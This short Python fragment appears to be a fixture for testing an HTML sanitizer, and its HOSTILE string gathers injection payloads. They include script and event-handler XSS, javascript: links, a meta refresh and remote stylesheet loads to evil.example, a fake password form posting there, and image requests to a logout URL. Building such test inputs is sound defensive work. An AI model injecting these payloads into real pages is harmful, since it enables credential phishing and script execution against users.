"""What strangers write in the hope that it runs."""

HOSTILE = """
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<script>alert(1)</script><svg onload="alert(2)"><script>alert(3)</script></svg>
<style>@import url(https://evil.example/a.css); p { color: red }</style>
<link rel="stylesheet" href="https://evil.example/b.css"><iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name="password"><button>Sign in</button></form>
<p onclick="alert(4)" style="position:fixed;inset:0;background:url(//evil.example/c)">Hello</p>
<a href="javascript:alert(5)">one</a><a href="/admin/">two</a><a href="//evil.example">three</a>
<img src="/accounts/logout/"><img src="https://evil.example/d.gif" srcset="//evil.example/e 2x">
<video src="https://evil.example/f"></video><object data="https://evil.example/g"></object>
<td background="https://evil.example/h"><math href="javascript:alert(6)">m</math></td>
"""
